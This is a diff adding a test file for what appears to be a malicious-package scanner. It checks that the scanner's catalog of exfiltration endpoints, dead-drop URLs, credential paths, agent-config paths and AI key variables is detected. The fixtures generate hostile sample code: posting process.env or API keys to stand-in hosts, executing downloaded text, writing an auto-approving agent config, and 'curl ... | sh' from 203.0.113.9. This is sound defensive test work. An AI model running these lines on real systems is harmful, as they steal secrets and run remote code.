@@ -1,0 +1,198 @@
+// Every catalog entry (src/catalog) on every tier, generated from the entries themselves: a line
+// added to a list in engine/indicators.ts, engine/ai-indicators.ts or engine/catalog.ts is tested
+// here without a new test. For each entry:
+//  - its own test and its hint accept its example (the hint is what tier 0 and the lazy tier use);
+//  - tier 0: a file that holds only the entry (a target list another file reads) is parsed;
+//  - the lazy tier: in a large file, a cold helper function whose body holds the entry is parsed,
+//    where the same helper holding a neutral string is skipped;
+//  - the rule that owns the entry reports it, run alone.
+import { afterAll, beforeAll, describe, expect, test } from 'vitest';
+import { CATALOG, type CatalogEntry, type CatalogKind } from '../src/catalog/index.js';
+import { CREDENTIAL_PATHS, EXFIL_ENDPOINTS, RECON_ENDPOINTS } from '../src/engine/indicators.js';
+import { AGENT_CONFIG_PATHS, AI_KEY_ENV } from '../src/engine/ai-indicators.js';
+import { DEAD_DROP_URLS } from '../src/engine/catalog.js';
+import { NETWORK_CALLEES, PROCESS_CALLEES, moduleOf, type NetworkCallee, type ProcessCallee } from '../src/catalog/callees.js';
+import { NETWORK_CALLS } from '../src/engine/semantics/network-calls.js';
+import { worthParsing } from '../src/engine/prefilter/lexical.js';
+import { analyzePackage, DEFAULT_ENGINE_OPTIONS } from '../src/engine/run/analyze.js';
+import { LAZY_MIN_BYTES } from '../src/engine/prefilter/lazy-bodies.js';
+import { RULES } from '../heuristics/index.js';
+import type { Rule } from '../src/engine/run/rule.js';
+import { packageFromFiles } from './helpers/analyze.js';
+import { findingsOf } from './helpers/rule-tester.js';
+
+const rule = (id: string): Rule => RULES.find((r) => r.meta.id === id)!;
+
+/** The rule that owns each kind of entry. */
+const OWNER: Record<CatalogKind, string> = {
+  endpoint: 'network',
+  recon: 'network',
+  'dead-drop': 'covert-channel',
+  'credential-path': 'credential-files',
+  'agent-config': 'agent-config',
+  'ai-key': 'ai-keys',
+};
+
+const q = (s: string) => JSON.stringify(s);
+/** A path example as code: home-relative ones through os.homedir(), as real code writes them. */
+const pathExpr = (p: string) => (p.startsWith('~/') ? `path.join(os.homedir(), ${q(p.slice(2))})` : q(p));
+
+/** A file that holds the entry and nothing else that tier 0 would trigger on. */
+function dataOnly(e: CatalogEntry): string {
+  return e.kind === 'ai-key' ? `module.exports = process.env.${e.example};\n` : `module.exports = [${q(e.example)}];\n`;
+}
+
+/** Code that uses the entry the way the owning rule looks for. */
+function use(e: CatalogEntry): string {
+  const head = "const fs = require('fs');\nconst os = require('os');\nconst path = require('path');\n";
+  switch (e.kind) {
+    case 'endpoint':
+    case 'recon':
+      return `${head}fetch(${q(e.example)}, { method: 'POST', body: JSON.stringify(process.env) });\n`;
+    case 'dead-drop':
+      return `const https = require('https');\nhttps.get(${q(e.example)}, (r) => { let d = ''; r.on('data', (c) => (d += c)); r.on('end', () => { require('child_process').exec(d); }); });\n`;
+    case 'credential-path':
+      return `${head}const data = fs.readFileSync(${pathExpr(e.example)}, 'utf8');\n`;
+    case 'agent-config':
+      return `${head}fs.writeFileSync(${pathExpr(e.example)}, JSON.stringify({ 'chat.tools.autoApprove': true, mcpServers: { x: { command: 'npx', args: ['-y', 'helper-mcp.invalid'] } } }));\n`;
+    case 'ai-key':
+      return `const key = process.env.${e.example};\nfetch('https://collector.invalid/k', { method: 'POST', body: key });\n`;
+  }
+}
+
+/** A function whose body names nothing of interest, about `bytes` long. */
+function filler(name: string, bytes: number): string {
+  const lines: string[] = [];
+  for (let i = 0, size = 0; size < bytes; i++) {
+    const line = `  const v${i} = list.map((x) => x * ${i} + offset).filter((x) => x % 3 !== ${i % 3});\n`;
+    lines.push(line);
+    size += line.length;
+  }
+  return `function ${name}(list, offset) {\n${lines.join('')}  return list;\n}\n`;
+}
+
+/**
+ * A large file that tier 0 parses (it loads http, which neither function names): a cold filler, then
+ * a helper (one parameter, so not folded as a constant) returning `text`.
+ */
+function largeFile(text: string): string {
+  const helper = `function target(prefix) {\n  const parts = [prefix, 'a', 'b', 'c', 'd', 'e', 'f'];\n  return parts.join('/') + ${q(text)};\n}\n`;
+  return `const http = require('http');\n${filler('cold', LAZY_MIN_BYTES + 1024)}${helper}module.exports = { http };\nmodule.exports = { cold, target };\n`;
+}
+
+function lazyBodies(text: string): number {
+  const a = analyzePackage(packageFromFiles({ 'index.js': text }), RULES, DEFAULT_ENGINE_OPTIONS);
+  return a.stats.lazyBodies ?? 0;
+}
+
+describe('catalog', () => {
+  test('holds every list it gathers, each entry once', () => {
+    const lists = [EXFIL_ENDPOINTS, RECON_ENDPOINTS, DEAD_DROP_URLS, CREDENTIAL_PATHS, AGENT_CONFIG_PATHS, AI_KEY_ENV];
+    expect(CATALOG.length).toBe(lists.reduce((n, l) => n + l.length, 0));
+    expect(CATALOG.length).toBeGreaterThan(100);
+  });
+
+  // The lazy tier is measured at its default size; TOLLGATE_LAZY=all/off would change what it skips.
+  let saved: string | undefined;
+  beforeAll(() => {
+    saved = process.env.TOLLGATE_LAZY;
+    delete process.env.TOLLGATE_LAZY;
+  });
+  afterAll(() => {
+    if (saved !== undefined) process.env.TOLLGATE_LAZY = saved;
+  });
+
+  test('the lazy-tier control: a helper holding a neutral string is skipped', () => {
+    expect(lazyBodies(largeFile('nothing to see'))).toBe(2);
+  });
+
+  for (const e of CATALOG) {
+    describe(`${e.kind}: ${e.label} (${e.example})`, () => {
+      test('its hint accepts its example', () => {
+        expect(new RegExp(e.hint.source).test(e.example)).toBe(true);
+      });
+
+      test('tier 0 parses a file that holds only it', () => {
+        expect(worthParsing(dataOnly(e))).toBe(true);
+      });
+
+      test('the lazy tier parses a cold helper that holds it', () => {
+        expect(lazyBodies(largeFile(e.example))).toBe(1);
+      });
+
+      test(`the ${OWNER[e.kind]} rule reports it`, () => {
+        const found = findingsOf(rule(OWNER[e.kind]), { 'index.js': use(e) });
+        // The finding names the entry (an AI key by its variable; everything else by its label).
+        const name = e.kind === 'ai-key' ? e.example : e.label;
+        expect(found.map((f) => f.message).join('\n')).toContain(name);
+      });
+    });
+  }
+
+  // Process callees: a call of each, made inside a cold helper of a large file, keeps that helper
+  // parsed (the module it comes from is bound at the top, or it is a global the tier-0 triggers
+  // name), and process-exec reports it.
+  const COMMAND = "'sh', ['-c', 'curl -s http://203.0.113.9/x.sh | sh']";
+  /** The module a callee is loaded from and the call on it, or a global call. */
+  function callOf(c: ProcessCallee): { head: string; call: string } {
+    const [mod, method] = c.callee.startsWith('child_process.') ? ['child_process', c.callee.slice('child_process.'.length)] : c.callee.split(/\.(?=[^.]+$)/).length === 2 && !/^(?:Bun|Deno)\./.test(c.callee) ? (c.callee.split(/\.(?=[^.]+$)/) as [string, string]) : [c.callee, undefined];
+    if (/^(?:Bun|Deno)\./.test(c.callee)) return { head: '', call: c.callee === 'Deno.Command' ? `new Deno.Command('sh', { args: ['-c', 'curl -s http://203.0.113.9/x.sh | sh'] }).spawn()` : `${c.callee}(['sh', '-c', 'curl -s http://203.0.113.9/x.sh | sh'])` };
+    const m = method === '*' ? 'command' : method;
+    return { head: `const runner = require(${q(mod!)});\n`, call: m ? `runner.${m}(${COMMAND})` : `runner(${COMMAND})` };
+  }
+
+  for (const c of PROCESS_CALLEES.filter((c) => !c.tag)) {
+    describe(`process callee: ${c.callee}`, () => {
+      const { head, call } = callOf(c);
+      test('tier 0 parses a file that loads it (or names its global)', () => {
+        expect(worthParsing(c.global ? `module.exports = () => ${c.callee.replace(/^Deno\.Command$/, 'new Deno.Command')}(['ls']);\n` : head)).toBe(true);
+      });
+      test('the lazy tier parses a cold helper that calls it', () => {
+        const helper = `function target(prefix) {\n  const parts = [prefix, 'a', 'b', 'c', 'd', 'e', 'f'];\n  return ${call};\n}\n`;
+        const text = `${head}const http = require('http');\n${filler('cold', LAZY_MIN_BYTES + 1024)}${helper}module.exports = { http, cold, target };\n`;
+        expect(lazyBodies(text)).toBe(1);
+      });
+      test('the process-exec rule reports it', () => {
+        const found = findingsOf(rule('process-exec'), { 'index.js': `${head}${call};\n` });
+        // The command where the rule reads it (Bun's and Deno's argument arrays it does not yet), else the callee.
+        expect(found.map((f) => f.message).join('\n')).toMatch(/^(?:Bun|Deno)\./.test(c.callee) ? `starts a process with ${c.callee}` : /curl -s http:\/\/203\.0\.113\.9/);
+      });
+    });
+  }
+
+  // Network callees: tier 0 parses a file that loads one (or names its global), a cold helper that
+  // calls one is parsed, the network rule reports the ones it reports, and the flow rules' sink
+  // pattern holds the ones that send.
+  const URL = "'https://203.0.113.9/c'";
+  function networkCall(c: NetworkCallee): { head: string; call: string } {
+    const isNew = /^(?:XMLHttpRequest|WebSocket|EventSource|net\.Socket|ws)$/.test(c.callee);
+    const args = c.callee === 'XMLHttpRequest' ? '' : `${URL}, payload`;
+    if (c.global) return { head: '', call: `${isNew ? 'new ' : ''}${c.callee}(${args})` };
+    const mod = moduleOf(c);
+    const method = c.callee.slice(mod.length + 1).replace(/^\*$/, 'patch');
+    return { head: `const client = require(${q(mod)});\n`, call: `${isNew ? 'new ' : ''}client${method ? '.' + method : ''}(${args})` };
+  }
+
+  for (const c of NETWORK_CALLEES) {
+    describe(`network callee: ${c.callee}`, () => {
+      const { head, call } = networkCall(c);
+      test('tier 0 parses a file that loads it (or names its global)', () => {
+        expect(worthParsing(head || `module.exports = () => ${call};\n`)).toBe(true);
+      });
+      test('the lazy tier parses a cold helper that calls it', () => {
+        const helper = `function target(payload) {\n  const parts = [payload, 'a', 'b', 'c', 'd', 'e', 'f'];\n  return ${call};\n}\n`;
+        const text = `${head}const os = require('os');\n${filler('cold', LAZY_MIN_BYTES + 1024)}${helper}module.exports = { os, cold, target };\n`;
+        expect(lazyBodies(text)).toBe(1);
+      });
+      if (c.reports) {
+        test('the network rule reports it', () => {
+          const found = findingsOf(rule('network'), { 'index.js': `${head}const payload = 'x';\n${call};\n` });
+          expect(found.map((f) => f.message).join('\n')).toMatch('network access via');
+        });
+      }
+      test(`the flow rules' sink pattern ${c.sends ? 'holds' : 'leaves out'} it`, () => {
+        expect(NETWORK_CALLS.test(c.callee.replace(/\.\*$/, '.patch'))).toBe(c.sends);
+      });
+    });
+  }
+});
